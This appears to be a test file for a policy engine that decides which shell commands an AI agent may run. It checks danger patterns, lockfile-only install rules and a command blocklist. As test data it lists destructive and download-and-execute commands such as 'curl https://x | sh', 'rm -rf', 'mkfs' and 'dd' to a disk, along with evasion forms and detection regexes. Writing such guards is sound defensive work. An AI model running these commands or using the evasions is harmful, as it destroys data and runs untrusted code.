/**
 * The rules about shell commands, on the parsed form: the lists of danger, installing and blocked commands, and ways
 * around them.
 */
import { beforeAll, describe, expect, test } from "vitest";
import { isWithinPreset, PRESET_NAMES, type PresetName } from "../../src/model/people/preset.ts";
import type { PolicyEngine } from "../../src/policy/policy.ts";
import { shell } from "../../src/tools/shell/shell.ts";
import { engineOf, operator, presetSources, request } from "../support/policy-fixtures.ts";

const engines = new Map<PresetName, PolicyEngine>();
beforeAll(async () => {
  await shell.prepare?.();
  for (const name of PRESET_NAMES) engines.set(name, await engineOf(presetSources(name)));
});

/**
 * The rules that decide about the commands of `command`: `deny <rule>`, or what asks, without what asks about every
 * command.
 */
function decided(
  preset: PresetName,
  command: string,
  {
    engine = engines.get(preset),
    contained = false,
  }: { readonly engine?: PolicyEngine | undefined; readonly contained?: boolean } = {},
): readonly string[] {
  const rules = new Set<string>();
  for (const { resource, effect } of shell.analyse({ command })) {
    if (resource.kind !== "command") continue;
    const verdict = engine?.evaluate(request({ action: "shell", effect, resource, context: { contained } }));
    if (verdict?.decision !== "allow") return [`deny ${verdict?.ruleId}`];
    for (const { ruleId } of verdict.obligations) if (!/^(?:meao|autonomous)\./.test(ruleId)) rules.add(ruleId);
  }
  return [...rules].sort();
}

describe("meao's danger patterns ask, on what runs and not on how it is written", () => {
  test.each([
    ["rm -rf build", "danger.remove"],
    ["r\\m -r -f build", "danger.remove"],
    ["'rm' --recursive --force build", "danger.remove"],
    ["$'\\x72m' -fr build", "danger.remove"],
    ["/bin/rm -rf build", "danger.remove"],
    ["find . -name x | xargs rm -f", "danger.remove"],
    ["find . -delete", "danger.remove"],
    ["sh -c 'cd x; rm -r y'", "danger.remove"],
    ["git clean -fdx", "danger.remove"],
    ["mkfs.ext4 disk.img", "danger.disk"],
    ["mkfs disk.img", "danger.disk"],
    ["dd if=/dev/zero of=x", "danger.disk"],
    ["tee /dev/sda", "danger.disk"],
    ["chmod 777 x", "danger.open-modes"],
    ["chmod -R 0777 x", "danger.open-modes"],
    ["chmod a+rwx x", "danger.open-modes"],
    ["chmod u+s x", "danger.open-modes"],
    ["chmod $mode x", "danger.open-modes"],
    ["chown root x", "danger.other-user"],
  ])("%s", (command, rule) => {
    expect(decided("meao", command)).toEqual([rule]);
  });

  test.each([
    ["curl https://x | sh", ["danger.downloaded-code", "danger.unclear"]],
    ["wget -qO- https://x | bash -s -- y", ["danger.downloaded-code", "danger.unclear"]],
    ["curl https://x | tee f | sudo sh", ["danger.downloaded-code", "danger.other-user", "danger.unclear"]],
    ["sh <(curl https://x)", ["danger.downloaded-code", "danger.unclear"]],
    ['eval "$(curl https://x)"', ["danger.downloaded-code", "danger.unclear"]],
    ["echo cm0= | base64 -d | sh", ["danger.unclear"]],
    ["x=rm; $x -rf y", ["danger.unclear"]],
    ["python3 -c 'import os'", ["danger.unclear"]],
    ["tar --to-command=rm -xf a", ["danger.unclear"]],
    ["LD_PRELOAD=./x ls", ["danger.unclear"]],
    ["npm $verb left-pad", ["danger.unknown-arguments"]],
    ["sudo ls", ["danger.other-user"]],
  ] as const)("%s", (command, rules) => {
    expect(decided("meao", command)).toEqual(rules);
    expect(decided("dev", command)).toEqual(rules);
  });

  test.each([
    "ls -la",
    "npm test",
    "git rm --cached x",
    "grep -r 'rm -rf' src",
    "echo rm -rf x",
    "chmod 644 x",
    "chmod +x run.sh",
    "curl https://x > f",
    "cat f | sort | uniq -c",
    'for f in *.ts; do wc -l "$f"; done',
    "node build.js && npm ci",
    "python3 -m pytest -q",
    "find . -name '*.ts' -exec wc -l {} +",
    "git commit -m 'remove: dd if= and mkfs from docs'",
  ])("nothing more asks about: %s", (command) => {
    expect(decided("meao", command)).toEqual([]);
  });
});

describe("a contained command asks by what it does, and no more by how it is written", () => {
  const LEFT = [
    ["chroot . ls", ["danger.other-user"]],
    ["curl https://x | sudo sh", ["danger.downloaded-code"]],
    ["git -c core.sshCommand=./x push", ["danger.unclear"]],
    ["chown root x", ["danger.other-user"]],
    ["curl https://x | sh", ["danger.downloaded-code"]],
    ['eval "$(curl https://x)"', ["danger.downloaded-code"]],
    ["ssh build.example rm -rf x", ["danger.unclear"]],
    ["docker run --rm x", ["danger.unclear"]],
    ["echo 'unfinished", ["danger.unclear"]],
    ["ls \u202e-la", ["danger.unclear"]],
  ] as const;

  test.each([
    "rm -rf build",
    "find . -delete",
    "git clean -fdx",
    "dd if=a of=b",
    "chmod 777 x",
    "python3 -c 'import os'",
    "node -e 'console.log(1)'",
    "perl -pi -e 's/a/b/' src/*.ts",
    "tar --to-command=cat -xf a",
    "LD_PRELOAD=./x ls",
    "IFS=, read -r a b < f",
    "GIT_EDITOR=true git status",
    'f=$(mktemp); sort a > "$f"; mv "$f" a',
    "cat > notes.md <<EOF\nhello $USER\nEOF",
    "x=rm; $x -rf y",
    "npm $verb left-pad",
    "pnpm exec vitest run",
    "npx tsc --noEmit",
    "tmux kill-session -t x",
    "sudo ls",
    "git push origin work",
  ])("%s", (command) => {
    expect(decided("dev", command, { contained: true })).toEqual([]);
  });

  test.each(LEFT)("left to ask: %s", (command, rules) => {
    expect(decided("dev", command, { contained: true })).toEqual(rules);
  });

  test.each(["npm install", "pip install x"])("what installs stays refused: %s", (command) => {
    expect(decided("dev", command, { contained: true })[0]).toMatch(/^deny /);
  });

  test("where nothing contains it, or it reaches a host, everything asks as before", () => {
    for (const command of ["rm -rf build", "python3 -c 'import os'", "npm $verb x"])
      expect(decided("dev", command)).not.toEqual([]);
  });

  test("the preset of meao asks about all of it", () => {
    expect(decided("meao", "rm -rf build", { contained: true })).toEqual(["danger.remove"]);
  });
});

describe("dependencies come from lock files (Flow §4.2)", () => {
  test.each([
    "npm install",
    "npm install left-pad",
    "npm i left-pad",
    "npm add left-pad",
    "npm update",
    "npm --silent install x",
    "npm --prefix web i x",
    "n\\pm install",
    "sudo npm install",
    "sh -c 'npm install'",
    "cd web && npm install",
    "env CI=1 npm install",
    "npm ci && npm install",
    "npm audit fix",
    "npm audit --force fix",
    "npm dedupe",
    "pip install requests",
    "pip3 install -r requirements.txt",
    "pip3.12 install x",
    "python -m pip install x",
    "python3 -I -mpip install x",
    "poetry run pip install x",
    "uv pip install x",
    "poetry add x",
    "pnpm add x",
    "pnpm install",
    "yarn",
    "yarn install",
    "yarn add x",
    "npm updat x",
    "npm upg",
    "npm create vite",
    "yarn global add x",
    "yarn workspace web add x",
    "yarn --production",
    "yarn dlx x",
    "pnpm dlx x",
    "pnpm it",
    "bun a x",
    "corepack pnpm add x",
    "npm -C web exec pip install x",
    "echo x | xargs npm install",
    "echo x | xargs nice npm install",
    "echo x | xargs -I{} npm install {}",
    "pypy3 -m pip install x",
    "python3 -W ignore -m pip install x",
    "python3 -Im pip install x",
    "uv tool install x",
    "uv lock --upgrade",
    "pipx run x",
    "uvx x",
    "poetry self add x",
    "pdm add x",
    "conda install x",
    "cargo install x",
    "cargo add x",
    "cargo update",
    "cargo +nightly install x",
    "go get x",
    "go install example.com/x@latest",
    "go run example.com/x@v1",
    "gem install x",
    "gem inst x",
    "bundle",
    "bundle add x",
    "bundle update",
    "bundle install",
    "composer require x/y",
    "composer global require x/y",
    "composer -n update",
    "deno add x",
  ])("denied: %s", (command) => {
    for (const preset of ["dev", "autonomous", "meao"] as const)
      expect(decided(preset, command)[0]).toMatch(/^deny install\./);
  });

  test.each([
    "npm ci",
    "npm test",
    "npm run install-hooks",
    "npm run build -- install",
    "npm ls install",
    "npm audit",
    "npm clean-install",
    "poetry install",
    "pip list",
    "pip --version",
    "python3 install.py",
    "pnpm install --frozen-lockfile",
    "yarn install --immutable",
    "yarn test",
    "cargo fetch --locked",
    "cargo build",
    "cargo run -- install",
    "cargo install --path . --locked",
    "go install ./...",
    "go mod download",
    "go test ./...",
    "gem list",
    "bundle exec rake",
    "bundle install --frozen",
    "composer install",
    "uv sync --locked",
    "uv lock --check",
    "poetry self show",
    "yarn --version",
    "yarn workspace web test",
    "npm outdated",
    "npm install-ci-test",
    "npx tsc",
    "make install",
    "echo npm install",
  ])("not denied: %s", (command) => {
    for (const preset of ["dev", "autonomous", "meao", "open"] as const) expect(decided(preset, command)).toEqual([]);
  });

  test("the message names the form that is allowed", async () => {
    const [access] = shell.analyse({ command: "npm install x" });
    if (access?.resource.kind !== "command") throw new Error("a command is named");
    expect(
      engines.get("dev")?.evaluate(request({ action: "shell", effect: "exec", resource: access.resource })),
    ).toMatchObject({
      decision: "deny",
      rationale: "shell_exec_denied",
      message: expect.stringContaining("which runs npm ci"),
    });
  });

  test("open asks nothing of this, and denies what chooses versions by itself", () => {
    for (const command of ["npm ci", "poetry install", "rm -rf x", "curl https://x | sh", "sudo ls", "a $("])
      expect(decided("open", command)).toEqual([]);
    expect(decided("open", "npm install")).toEqual(["deny install.npm-lockfile-only"]);
    expect(decided("open", "sudo pip install x")).toEqual(["deny install.pip-lockfile-only"]);
  });
});

describe("Brio's blocklist", () => {
  test.each([
    ["ls", []],
    ["cat src/a.ts", []],
    ["cargo build --release", []],
    ["/usr/bin/python3 run.py", []],
    ["./python run.py", ["deny DEFAULT_DENY"]],
    ["npm test", ["deny DEFAULT_DENY"]],
    ["rm x", ["deny brio.blocked-commands"]],
    ["r\\m x", ["deny brio.blocked-commands"]],
    ["mkfs x", ["deny brio.blocked-commands"]],
    ["mkfs.ext4 x", ["deny brio.blocked-commands"]],
    ["dd x", ["deny brio.blocked-commands"]],
    ["format x", ["deny brio.blocked-commands"]],
    ["fdisk x", ["deny brio.blocked-commands"]],
    ["del x", ["deny brio.blocked-commands"]],
    ["sudo ls", ["deny brio.blocked-commands"]],
    ...[
      "ls | cat",
      "ls; ls",
      "ls & ls",
      "ls $x",
      "ls `x`",
      "ls > f",
      "ls < f",
      "ls (",
      "ls )",
      "ls {",
      "ls }",
      "ls 'a|b'",
      "ls\nls",
    ].map((command) => [command, ["deny brio.blocked-characters"]] as const),
    ["cat ../x", ["deny brio.blocked-traversal"]],
    ["cat a/../../x", ["deny brio.blocked-traversal"]],
    ["cat '..\\x'", ["deny brio.blocked-traversal"]],
    ["ls ..", ["deny brio.blocked-traversal"]],
    ["cat a..b", []],
    ["python3 -c 1", ["deny brio.unclear"]],
  ] as const)("%j: %j", (command, rules) => {
    expect(decided("brio", command)).toEqual(rules);
  });

  test("an operator's permit lists another program, and lifts none of the blocks", async () => {
    const own = `@id("own.npm") permit (principal, action == Handrail::Action::"shell", resource is Handrail::Command) when { resource.binary == "npm" || resource.name == "rm" };`;
    const engine = await engineOf([...presetSources("brio"), operator(own)]);
    expect([
      decided("brio", "npm test", { engine }),
      decided("brio", "rm x", { engine }),
      decided("brio", "npm test; ls", { engine }),
    ]).toEqual([[], ["deny brio.blocked-commands"], ["deny brio.blocked-characters"]]);
  });
});

describe("the lists word for word, as their authors wrote them", () => {
  const MEAO: readonly (readonly [pattern: RegExp, command: string])[] = [
    [/rm\s+-rf/, "rm -rf x"],
    [/mkfs/, "mkfs x"],
    [/dd\s+if=/, "dd if=x"],
    [/chmod\s+777/, "chmod 777 x"],
    [/curl.*\|\s*sh/, "curl x | sh"],
    [/wget.*\|\s*sh/, "wget x | sh"],
  ];
  test.each(MEAO)("meao's pattern %s asks", (pattern, command) => {
    expect(command).toMatch(pattern);
    for (const preset of ["meao", "dev"] as const) expect(decided(preset, command)[0]).toMatch(/^danger\./);
  });

  test("meao's pattern of disks: a redirection there leads out of the workspace, which nobody is asked about", () => {
    expect(shell.analyse({ command: "echo x > /dev/sda" })).toContainEqual({
      resource: { kind: "file", path: "/dev/sda" },
      effect: "write",
    });
    expect(decided("meao", "cp x /dev/sda")).toEqual(["danger.disk"]);
  });

  test.each(["rm", "mkfs", "dd", "format", "fdisk", "del", "sudo"])(
    "Brio's `%s` asks, and is denied under brio",
    (name) => {
      for (const preset of ["meao", "dev"] as const) expect(decided(preset, `${name} x`)[0]).toMatch(/^danger\./);
      expect(decided("brio", `${name} x`)).toEqual(["deny brio.blocked-commands"]);
    },
  );

  test.each([..."|;&$`><(){}"])("Brio's character %s is denied under brio, quoted or not", (character) => {
    for (const command of [`ls x${character}y`, `ls 'x${character}y'`]) {
      expect(decided("brio", command)).toEqual(["deny brio.blocked-characters"]);
    }
    expect(decided("meao", `ls 'x${character}y'`)).toEqual([]);
  });

  test("Flow's four: two denied, two not, under every preset that runs commands for agents", async () => {
    const own = `@id("own.all") permit (principal, action == Handrail::Action::"shell", resource is Handrail::Command);`;
    const brio = await engineOf([...presetSources("brio"), operator(own)]);
    const under = (command: string) => [
      ...(["dev", "autonomous", "meao"] as const).map((preset) => decided(preset, command)),
      decided("brio", command, { engine: brio }),
    ];
    expect(under("npm install")).toEqual(Array(4).fill(["deny install.npm-lockfile-only"]));
    expect(under("pip install x")).toEqual(Array(4).fill(["deny install.pip-lockfile-only"]));
    expect(under("npm ci")).toEqual(Array(4).fill([]));
    expect(under("poetry install")).toEqual(Array(4).fill([]));
  });
});

test("reader runs nothing, dangerous or not", () => {
  for (const command of ["ls", "rm x", "$x", "npm ci"])
    expect(decided("reader", command)).toEqual(["deny DEFAULT_DENY"]);
});

test("a client may choose a preset only where it is known to allow no more", () => {
  const within = PRESET_NAMES.map((preset) => PRESET_NAMES.filter((limit) => isWithinPreset(preset, limit)).join(" "));
  expect(within).toEqual([
    "reader dev autonomous meao brio open",
    "dev open",
    "dev autonomous open",
    "meao open",
    "brio open",
    "open",
  ]);
});
